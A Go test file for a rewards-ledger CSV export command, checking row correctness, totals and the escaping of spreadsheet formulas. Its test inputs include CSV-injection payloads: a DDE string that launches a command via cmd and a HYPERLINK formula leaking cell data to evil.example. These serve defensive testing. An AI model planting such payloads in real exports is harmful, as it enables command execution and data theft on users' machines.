package main

import (
	"context"
	"crypto/sha256"
	"encoding/csv"
	"fmt"
	"math/big"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/ethereum/go-ethereum/common"

	"github.com/guildhall/guildhall/postgres"
	"github.com/guildhall/guildhall/rewards"
)

func TestSpreadsheetSafe(t *testing.T) {
	for in, want := range map[string]string{
		`=HYPERLINK("http://x","y")`: `'=HYPERLINK("http://x","y")`,
		"+1":                         "'+1",
		"-2+3":                       "'-2+3",
		"@SUM(A1)":                   "'@SUM(A1)",
		"\t=1":                       "'\t=1",
		"\r=1":                       "'\r=1",
		"order-17":                   "order-17",
		"a=b":                        "a=b",
		"":                           "",
		"'quoted":                    "'quoted",
		"0x00000000000000000000000000000000000a11ce": "0x00000000000000000000000000000000000a11ce",
	} {
		if got := spreadsheetSafe(in); got != want {
			t.Errorf("spreadsheetSafe(%q) = %q, want %q", in, got, want)
		}
	}
}

// `rewards export` against a real database: one row per reward of the community and no other,
// each linking its amount to its activity, reference, rule and issuer (and its batch and mint
// transaction once batched); the amounts sum to the ledger and to what the issuers spent; and no
// cell an issuer wrote reaches a spreadsheet as a formula.
func TestRewardsExport(t *testing.T) {
	db, environ := cliDB(t, "bakery", "florist")
	ctx := context.Background()
	now := time.Now()
	rule := func(cid, activity string, amount int64) *rewards.Rule {
		r := &rewards.Rule{CommunityID: cid, Activity: activity, Amount: big.NewInt(amount)}
		if err := postgres.NewRewardsStore(db).PutRule(ctx, r); err != nil {
			t.Fatal(err)
		}
		return r
	}
	issuer := func(cid, name string) *rewards.Issuer {
		i := &rewards.Issuer{CommunityID: cid, Name: name, Budget: big.NewInt(1_000_000)}
		if err := postgres.NewRewardsStore(db).CreateIssuer(ctx, i, rewards.NewAPIKey()); err != nil {
			t.Fatal(err)
		}
		return i
	}
	purchase, visit := rule("bakery", "purchase", 10), rule("bakery", "visit", 25)
	till, evil := issuer("bakery", "till"), issuer("bakery", "=cmd|' /C calc'!A0")
	elsewhere := issuer("florist", "stall")
	rule("florist", "purchase", 99)
	n := 0
	accept := func(iss *rewards.Issuer, items ...rewards.Request) {
		t.Helper()
		n++
		h := sha256.Sum256(fmt.Appendf(nil, "%d", n))
		if _, err := postgres.NewRewardsStore(db).Accept(ctx, rewards.AcceptInput{Issuer: iss, IdempotencyKey: fmt.Sprint("k", n), RequestHash: h[:], Items: items, Now: now}); err != nil {
			t.Fatal(err)
		}
	}
	member := func(k int) string { return common.BigToAddress(big.NewInt(int64(0xb000 + k))).Hex() }
	formulas := []string{`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+SUM(1,2)", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"}
	for k, ref := range formulas {
		accept(till, rewards.Request{Wallet: member(k), Activity: "purchase", Reference: ref})
	}
	accept(till, rewards.Request{Wallet: member(1), Activity: "visit", Reference: `order, "17"`},
		rewards.Request{Wallet: member(2), Activity: "purchase", Amount: big.NewInt(4)})
	accept(evil, rewards.Request{Wallet: member(3), Activity: "visit"}, rewards.Request{Wallet: member(1), Activity: "visit", Reference: "a=b"})
	accept(elsewhere, rewards.Request{Wallet: member(1), Activity: "purchase", Reference: "florist's"})
	// The first five rewards go into a batch whose transaction is known.
	batch, err := postgres.NewBatchStore(db, postgres.NewMintIndex(db)).ClaimBatch(ctx, "bakery", 5, 0)
	if err != nil || batch == nil {
		t.Fatalf("claim batch: %v, %v", batch, err)
	}
	txHash := "0x" + strings.Repeat("ab", 32)
	if err := postgres.NewBatchStore(db, postgres.NewMintIndex(db)).SetBatchTxHash(ctx, batch.ID, txHash, 77); err != nil {
		t.Fatal(err)
	}

	out := mustRun(t, environ, "rewards", "export", "--community", "bakery")
	records, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatalf("the export is not CSV: %v\n%s", err, out)
	}
	header := strings.Join(records[0], ",")
	if header != "reward_id,created_at,community,wallet,amount,activity,reference,rule_id,rule_amount,issuer_id,issuer_name,status,batch_row,batch_id,tx_hash,block_number" {
		t.Fatalf("header = %s", header)
	}
	col := map[string]int{}
	for k, name := range records[0] {
		col[name] = k
	}
	ledger, err := postgres.NewRewardsStore(db).Rewards(ctx, "bakery", rewards.RewardFilter{Limit: 1000})
	if err != nil {
		t.Fatal(err)
	}
	byID := map[string]*rewards.Reward{}
	ledgerSum := new(big.Int)
	for _, r := range ledger {
		byID[strconv.FormatInt(r.ID, 10)] = r
		ledgerSum.Add(ledgerSum, r.Amount)
	}
	rows := records[1:]
	if len(rows) != len(ledger) || len(rows) != 10 {
		t.Fatalf("%d rows, want one per reward of bakery (%d, 10)", len(rows), len(ledger))
	}
	rules := map[int64]*rewards.Rule{purchase.ID: purchase, visit.ID: visit}
	issuers := map[int64]*rewards.Issuer{till.ID: till, evil.ID: evil}
	sum, batched := new(big.Int), 0
	for _, row := range rows {
		cell := func(name string) string { return row[col[name]] }
		r := byID[cell("reward_id")]
		if r == nil {
			t.Errorf("row %v is no reward of bakery", row)
			continue
		}
		amount, ok := new(big.Int).SetString(cell("amount"), 10)
		if !ok || amount.Cmp(r.Amount) != 0 {
			t.Errorf("reward %d: amount %q, want %s", r.ID, cell("amount"), r.Amount)
			continue
		}
		sum.Add(sum, amount)
		if cell("community") != "bakery" || cell("wallet") != r.Wallet || cell("activity") != r.Activity {
			t.Errorf("reward %d: %v does not match %+v", r.ID, row, r)
		}
		if cell("reference") != spreadsheetSafe(r.Reference) {
			t.Errorf("reward %d: reference %q, want %q", r.ID, cell("reference"), spreadsheetSafe(r.Reference))
		}
		ru, iss := rules[r.RuleID], issuers[r.IssuerID]
		if ru == nil || ru.Activity != r.Activity || cell("rule_id") != strconv.FormatInt(ru.ID, 10) || cell("rule_amount") != ru.Amount.String() {
			t.Errorf("reward %d: rule %s/%s, want %+v", r.ID, cell("rule_id"), cell("rule_amount"), ru)
		}
		if iss == nil || cell("issuer_id") != strconv.FormatInt(iss.ID, 10) || cell("issuer_name") != spreadsheetSafe(iss.Name) {
			t.Errorf("reward %d: issuer %s %q, want %+v", r.ID, cell("issuer_id"), cell("issuer_name"), iss)
		}
		if r.BatchID != 0 {
			batched++
			if cell("batch_row") != strconv.FormatInt(batch.ID, 10) || cell("batch_id") != batch.BatchID.Hex() ||
				cell("tx_hash") != txHash || cell("block_number") != "77" || cell("status") != "submitted" {
				t.Errorf("batched reward %d: %v, want batch %d %s in tx %s at block 77", r.ID, row, batch.ID, batch.BatchID.Hex(), txHash)
			}
		} else if cell("batch_row") != "" || cell("tx_hash") != "" || cell("status") != "pending" {
			t.Errorf("unbatched reward %d: %v", r.ID, row)
		}
		for k, v := range row {
			if v != "" && strings.ContainsRune("=+-@\t\r", rune(v[0])) {
				t.Errorf("reward %d: cell %s = %q would be a formula", r.ID, records[0][k], v)
			}
		}
	}
	if batched != 5 {
		t.Errorf("%d batched rows, want 5", batched)
	}
	spent := new(big.Int)
	for _, i := range []*rewards.Issuer{till, evil} {
		got, err := postgres.NewRewardsStore(db).Issuer(ctx, i.ID)
		if err != nil {
			t.Fatal(err)
		}
		spent.Add(spent, got.Spent)
	}
	if sum.Cmp(ledgerSum) != 0 || sum.Cmp(spent) != 0 || sum.Int64() != 6*10+25+4+25+25 {
		t.Errorf("the export sums to %s; the ledger to %s, the issuers spent %s; want all %d", sum, ledgerSum, spent, 6*10+25+4+25+25)
	}
	// The raw formulas are in the ledger as sent; only the export neutralises them.
	if !strings.Contains(out, `'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`) || !strings.Contains(out, `"order, ""17"""`) {
		t.Errorf("the export does not quote the references as expected:\n%s", out)
	}

	code, _, stderr := runCmd(t, environ, "rewards", "export", "--community", "nowhere")
	if code != 1 || !strings.Contains(stderr, "not found") {
		t.Errorf("export of an unknown community: exit %d, %q", code, stderr)
	}
	if code, _, _ := runCmd(t, environ, "rewards", "export"); code != 2 {
		t.Errorf("export without --community: exit %d, want 2", code)
	}
}
